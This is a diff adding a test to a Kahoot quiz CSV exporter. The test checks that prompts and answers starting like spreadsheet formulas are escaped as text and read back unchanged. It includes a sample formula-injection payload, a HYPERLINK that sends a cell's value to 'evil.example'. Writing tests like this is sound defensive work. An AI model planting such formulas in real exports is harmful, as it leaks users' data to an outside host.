@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { assemblePack, buildQuestions } from '../packs/build';
 import { readKahootCsv, writeKahootCsv } from './kahoot-csv/csv';
@@ -196,6 +197,31 @@ describe('Kahoot export', () => {
     const back = buildQuestions(read.drafts, 'k').questions.map(({ id: _id, ...q }) => q);
     // A question without a time limit of its own is written with Kahoot's default, and comes back with it.
     expect(back).toEqual(simple.questions.map(({ id: _id, ...q }) => ({ ...q, timeLimit: 20 })));
+  });
+
+  it('writes a prompt or answer that starts like a formula as text, and reads its own file back unchanged', () => {
+    const hostile: Question = {
+      ...base,
+      id: 'f',
+      type: 'choice',
+      prompt: '=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")',
+      multiple: false,
+      options: ['+1', '-40 degrees', '@SUM(A1:A9)', 'plain'].map((text, i) => ({
+        text,
+        weight: i === 3 ? 100 : 0
+      }))
+    };
+    const { text } = writeKahootCsv(assemblePack({ id: 'h', title: 'Hostile' }, [hostile]));
+    const [, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
+    expect(row.slice(1, 6)).toEqual([
+      `'=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")`,
+      "'+1",
+      "'-40 degrees",
+      "'@SUM(A1:A9)",
+      'plain'
+    ]);
+    const back = buildQuestions(readKahootCsv(text).drafts, 'k').questions.map(({ id: _id, ...q }) => q);
+    expect(back).toEqual([{ ...hostile, id: undefined, timeLimit: 20 }].map(({ id: _id, ...q }) => q));
   });
 
   it("writes each question's time limit, rounding one Kahoot does not offer to the nearest, with a warning", () => {
